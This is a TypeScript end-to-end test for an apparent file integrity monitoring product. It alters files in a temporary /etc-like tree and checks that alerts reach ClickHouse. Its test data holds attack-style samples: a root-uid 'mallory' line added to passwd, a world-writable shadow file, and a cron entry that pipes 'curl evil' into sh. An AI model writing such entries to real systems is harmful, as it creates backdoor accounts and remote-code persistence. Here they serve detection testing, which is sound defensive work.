/**
 * File integrity end to end on the embedded bus: the agent watches a tree, the fim processor
 * turns its events into alerts, the sink lands them in ClickHouse. A change must be an alert
 * row within 2 s naming the changed attributes; a delete-and-recreate, a rename, a
 * permission-only change and a change made while the agent was down are all reported.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createContext, silentLogger } from '@cordon/runtime';
import { runStage, type RunningStage } from '@cordon/stage';
import { agentStage, makeEnrollToken, type AgentHandle } from '@cordon/agent';
import { applyTopics, loadConfig, openBus, openStore, startService } from '@cordon/cli';

interface Row {
  signature: string;
  evidence: string;
}

test('file changes become alerts in ClickHouse within 2 s, naming what changed', { timeout: 120_000 }, async () => {
  const dir = mkdtempSync(join(tmpdir(), 'cordon-fim-e2e-'));
  const tree = join(dir, 'etc');
  mkdirSync(tree);
  for (const f of ['passwd', 'shadow', 'hosts', 'sshd_config']) writeFileSync(join(tree, f), `${f} original\n`);
  const ctx = createContext({ log: silentLogger });
  const config = loadConfig({ env: {}, flags: { dataDir: join(dir, 'data') } });
  const bus = openBus(config, ctx);
  const store = await openStore(config, ctx);
  const agentConfig = {
    token: makeEnrollToken(randomBytes(32), 'vm-db-1', 3_600_000, Date.now()),
    stateDir: join(dir, 'agent'),
    enforce: { enabled: false },
    fim: { paths: [tree], scanIntervalS: 0, debounceMs: 100, maxDelayMs: 300 },
    fimRoots: [dir],
  };
  let agent: RunningStage<unknown, AgentHandle> | null = null;
  try {
    await applyTopics(bus);
    const services = [
      await startService('fim', { bus, ctx, config, store }),
      await startService('sink', { bus, ctx, config, store }),
    ];
    agent = await runStage(agentStage, { bus, ctx, config: agentConfig });

    const waitFor = async (what: string, pred: (rows: Row[]) => boolean): Promise<{ rows: Row[]; ms: number }> => {
      const t0 = Date.now();
      for (;;) {
        const rows = await store.query<Row>("SELECT signature, evidence FROM alerts WHERE stage = 'fim' ORDER BY ts");
        if (pred(rows)) return { rows, ms: Date.now() - t0 };
        if (Date.now() - t0 > 15_000)
          throw new Error(`no alert for ${what}; alerts so far:\n${rows.map((r) => r.signature).join('\n')}`);
        await new Promise((r) => setTimeout(r, 50));
      }
    };
    const changed = (rows: Row[], path: string) =>
      rows
        .filter((r) => (JSON.parse(r.evidence) as { path: string }).path === path)
        .map(
          (r) =>
            JSON.parse(r.evidence) as {
              op: string;
              changes: Array<{ attribute: string }>;
              renamed_from: string | null;
            },
        );

    // content change: within 2 s, naming size, sha256 and mtime
    writeFileSync(join(tree, 'passwd'), 'passwd original\nmallory:x:0:0::/root:/bin/sh\n');
    const content = await waitFor('the content change', (rows) => changed(rows, join(tree, 'passwd')).length > 0);
    assert.ok(content.ms <= 2000, `alert landed after ${content.ms} ms`);
    const attrs = changed(content.rows, join(tree, 'passwd'))[0]!
      .changes.map((c) => c.attribute)
      .sort();
    assert.deepEqual(
      attrs.filter((a) => ['sha256', 'size'].includes(a)),
      ['sha256', 'size'],
    );

    // permission-only change: mode, and nothing about the content
    chmodSync(join(tree, 'shadow'), 0o666);
    const perm = await waitFor('the chmod', (rows) => changed(rows, join(tree, 'shadow')).length > 0);
    assert.deepEqual(
      changed(perm.rows, join(tree, 'shadow'))[0]!.changes.map((c) => c.attribute),
      ['mode'],
    );

    // delete and recreate with the same content: a new inode
    unlinkSync(join(tree, 'hosts'));
    writeFileSync(join(tree, 'hosts'), 'hosts original\n');
    const re = await waitFor('the delete and recreate', (rows) => changed(rows, join(tree, 'hosts')).length > 0);
    const hostEvents = changed(re.rows, join(tree, 'hosts'));
    // The filesystem may hand the freed inode number straight back to the new file (ext4 and
    // overlayfs do), so what is left to see is a new inode, or new times on the "same" one —
    // AIDE reports it the same way. Either way it must be reported, not missed.
    assert.ok(
      hostEvents.some((e) => e.changes.some((c) => ['inode', 'mtime', 'ctime'].includes(c.attribute))) ||
        (hostEvents.some((e) => e.op === 'removed') && hostEvents.some((e) => e.op === 'added')),
      `delete+recreate reported: ${JSON.stringify(hostEvents)}`,
    );

    // rename
    renameSync(join(tree, 'sshd_config'), join(tree, 'sshd_config.bak'));
    const ren = await waitFor('the rename', (rows) => changed(rows, join(tree, 'sshd_config.bak')).length > 0);
    const r = changed(ren.rows, join(tree, 'sshd_config.bak'))[0]!;
    assert.equal(r.op, 'renamed');
    assert.equal(r.renamed_from, join(tree, 'sshd_config'));

    // a change while the agent is down is seen when it starts again
    await agent.stop();
    agent = null;
    writeFileSync(join(tree, 'new-cron-job'), '* * * * * root curl evil | sh\n');
    agent = await runStage(agentStage, { bus, ctx, config: agentConfig });
    const down = await waitFor(
      'the change made during downtime',
      (rows) => changed(rows, join(tree, 'new-cron-job')).length > 0,
    );
    assert.equal(changed(down.rows, join(tree, 'new-cron-job'))[0]!.op, 'added');

    for (const s of services) await s.stop();
  } finally {
    await agent?.stop();
    await bus.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
